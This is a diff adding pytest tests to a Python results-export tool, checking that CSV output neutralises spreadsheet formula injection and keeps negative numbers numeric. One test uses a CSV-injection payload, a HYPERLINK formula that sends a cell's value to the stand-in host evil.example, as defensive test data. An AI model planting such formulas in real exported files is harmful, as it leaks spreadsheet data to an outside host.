@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -15,7 +16,7 @@ from cellgauge.cli import main
 from cellgauge.exchange.table import export_table, long_table
 from cellgauge.results.schema import Release
 from cellgauge.results.store import read_results, seal, write_release, write_result
-from cellgauge.results.table import COLUMNS
+from cellgauge.results.table import COLUMNS, table_csv
 
 
 @pytest.fixture
@@ -64,6 +65,28 @@ def test_all_formats_say_the_same(release: Path, tmp_path: Path) -> None:
                 assert (float(row[column]) if kind == "float64" else row[column]) == (
                     wanted[column] if kind == "float64" else str(wanted[column])
                 )
+
+
+@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_reason_that_a_program_gave_is_run_by_a_spreadsheet(
+    release: Path, values: dict[str, Any], tmp_path: Path, mark: str
+) -> None:
+    reason = f'{mark}HYPERLINK("http://evil.example/"&A1)'
+    empty = {"status": "failed", "reason": reason, "scores": [], "replicates": None, "resources": None}
+    write_result(release, seal({**values, **empty, "model": {**values["model"], "id": "nmf"}}), None)
+    wanted = long_table(release)
+    assert [row["reason"] for row in wanted if row["model"] == "nmf"] == [reason]
+    with export_table(release, "csv", tmp_path)[0].open(newline="") as file:
+        read = list(csv.DictReader(file))
+    assert [row["reason"] for row in read if row["model"] == "nmf"] == [f"'{reason}"]
+    assert not [cell for row in read for cell in row.values() if cell.startswith(mark)]
+    assert json.loads(export_table(release, "json", tmp_path)[0].read_bytes()) == wanted
+
+
+def test_a_score_below_zero_stays_a_number_in_csv(release: Path) -> None:
+    row = {**long_table(release)[0], "value": -0.25, "low": -1e-05, "n_units": -3}
+    (read,) = csv.DictReader(io.StringIO(table_csv([row]).decode()))
+    assert (read["value"], read["low"], read["n_units"]) == ("-0.25", "-1e-05", "-3")
 
 
 def test_the_command_writes_where_it_is_told(release: Path, tmp_path: Path) -> None:
